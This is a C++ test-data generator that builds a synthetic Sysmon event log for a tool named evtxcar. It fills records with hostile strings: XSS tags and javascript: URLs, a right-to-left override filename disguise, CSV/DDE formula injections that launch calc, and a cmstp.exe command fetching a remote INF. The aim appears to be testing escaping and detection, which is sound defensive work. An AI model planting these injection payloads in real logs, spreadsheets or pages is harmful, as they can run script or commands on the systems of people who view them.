#include "hostile_scenario.hpp"

#include "programs.hpp"

namespace evtxcar::testdata {

namespace {

using namespace evtx_writer;

const sysmon_host hostile01 = {"HOSTILE01.corp.example.com", "10.30.0.5", sysmon_schema::v4_50, 2412, 0x0BADC0DE};
const sysmon_host hostile_name = {"\"><svg onload=alert(1)>.corp.example.com", "10.30.0.6", sysmon_schema::v4_50, 2412,
                                  0x0BADC0DF};

constexpr const char* script_tag = "<script>alert(1)</script>";
constexpr const char* image_tag = "\"><img src=x onerror=alert(1)>";
constexpr const char* closing_script = "</script><script>alert(document.domain)</script>";
constexpr const char* javascript_url = "javascript:alert(1)";
constexpr const char* right_to_left_override = "\u202E";
constexpr const char* isolates = "\u2066left-to-right\u2069 \u2067right-to-left\u2069 \u2068first-strong\u2069";

class hostile_log {
public:
    explicit hostile_log(filetime start) : time_(start) {
        parent_ =
            program_process(hostile01, start - 600 * ticks_per_second, "hostile parent", 5120,
                            "C:\\Windows\\System32\\cmd.exe", std::string("cmd.exe /c ") + script_tag, user_session_);
    }

    sysmon_process start(const std::string& image, const std::string& command_line, const std::string& why,
                         std::vector<std::string> detections = {}, const logon_session* session = nullptr,
                         const sysmon_host& host = hostile01) {
        sysmon_process process =
            program_process(host, advance(), "hostile " + why, next_pid_ += 24, image, command_line,
                            session ? *session : user_session_, "C:\\Users\\Public\\" + std::string(script_tag) + "\\");
        records_.push_back({sysmon_process_create(host, time_, process, parent_), why, std::move(detections)});
        return process;
    }

    void add(windows_event event, std::string why, std::vector<std::string> detections = {}) {
        records_.push_back({std::move(event), std::move(why), std::move(detections)});
    }

    filetime advance() { return time_ += 5 * ticks_per_second + 310000; }
    std::vector<scenario_record> records() const { return records_; }

private:
    filetime time_;
    logon_session user_session_ = {"CORP\\" + std::string(image_tag), 0x7C01, 1, "Medium"};
    sysmon_process parent_;
    std::uint32_t next_pid_ = 7000;
    std::vector<scenario_record> records_;
};

std::vector<scenario_record> hostile_strings() {
    hostile_log log(to_filetime({2026, 6, 1, 15, 0, 0, 0}));
    log.start("C:\\Users\\Public\\" + std::string(script_tag) + ".exe", std::string("payload.exe ") + script_tag,
              "script tag in image, command line and current directory; img tag in the user name");
    // The CAR catalogue's analytics fire on these too: cmd.exe started (CAR-2013-02-003), " a " and
    // PowerShell not started by explorer.exe, whoami, an address on a command line.
    const std::vector<std::string> cmd_started = {"CAR-2013-02-003:pseudocode"};
    log.start("C:\\Windows\\System32\\cmd.exe", std::string("cmd.exe /c echo ") + closing_script,
              "closing script tag in a command line", cmd_started);
    log.start("C:\\Program Files\\Example\\browser.exe",
              std::string("\"C:\\Program Files\\Example\\browser.exe\" ") + javascript_url,
              "javascript: URL in a command line");
    log.start(std::string("C:\\Users\\Public\\invoice") + right_to_left_override + "fdp.exe",
              std::string("\"C:\\Users\\Public\\invoice") + right_to_left_override + "fdp.exe\" " + isolates,
              "right-to-left override in the image name; bidi isolates U+2066..U+2069");
    const std::vector<std::pair<std::string, std::string>> formulas = {
        {"=cmd|' /C calc'!A0", "CSV formula starting with ="},
        {"+cmd|' /C calc'!A0", "CSV formula starting with +"},
        {"-2+3+cmd|' /C calc'!A0", "CSV formula starting with -"},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "CSV formula starting with @"},
        {"\t=1+1", "CSV formula behind a leading tab"},
        {"\r=1+1", "CSV formula behind a leading carriage return"},
    };
    for (const auto& [command_line, why] : formulas) log.start("C:\\Windows\\System32\\cmd.exe", command_line, why, cmd_started);
    const logon_session formula_user = {"CORP\\=HYPERLINK(\"http://203.0.113.9\",\"click\")", 0x7C09, 1, "Medium"};
    log.start("C:\\Windows\\System32\\notepad.exe", "notepad.exe", "CSV formula in the user name", {}, &formula_user);
    log.start("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
              "powershell -c \"Write-Host \\\"a, b\\\"; 'c, d'\"\r\nsecond line, with a comma\nthird \"line\"",
              "quotes, commas, CR LF and LF in a command line",
              {"CAR-2013-07-001:pseudocode", "CAR-2013-07-005:pseudocode", "CAR-2014-04-003:pseudocode"});
    const sysmon_process writer = log.start("C:\\Windows\\System32\\notepad.exe", "notepad.exe", "a file writer");
    log.add(
        sysmon_file_create(hostile01, log.advance(), writer, std::string("C:\\Users\\Public\\") + image_tag + ".txt"),
        "img tag in a file path");
    log.add(sysmon_registry_value(hostile01, log.advance(), writer,
                                  "HKU\\S-1-5-21-1-2-3-1001\\Software\\\"quoted\", <key>\\Run\\x", javascript_url),
            "quotes, comma and angle brackets in a registry path; javascript: URL as its value");
    log.start("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "markup in the computer name",
              {"CAR-2016-03-001:pseudocode"}, nullptr, hostile_name);

    // A detection whose every shown field is hostile.
    const std::string inf_url = "https://203.0.113.9/" + std::string(script_tag) + ".inf";
    const sysmon_process cmstp = log.start("C:\\Windows\\System32\\cmstp.exe",
                                           "C:\\Windows\\System32\\cmstp.exe /ni /s " + inf_url + " =cmd|' /C calc'!A0",
                                           "cmstp.exe with a hostile remote INF URL",
                                           {detection_cmdline_url, "CAR-2013-07-001:ip-address"});
    network_connection c;
    c.initiated = true;
    c.source_ip = hostile01.address;
    c.source_hostname = std::string("HOSTILE01") + script_tag;
    c.source_port = 51515;
    c.destination_ip = "203.0.113.9";
    c.destination_hostname = image_tag;
    c.destination_port = 443;
    c.destination_port_name = closing_script;
    log.add(sysmon_network_connection(hostile01, log.advance(), cmstp, c),
            "cmstp.exe connects out; host names carry markup", {detection_remote});
    return log.records();
}

}  // namespace

std::vector<scenario_file> hostile_files() {
    scenario_file file;
    file.path = "hostile/hostile_strings.evtx";
    file.exercises =
        "HTML/script injection, bidi overrides, CSV formulas, quotes, commas, line breaks; a CMSTP detection";
    file.records = hostile_strings();
    file.first_record_id = 31337;
    return {file};
}

}  // namespace evtxcar::testdata
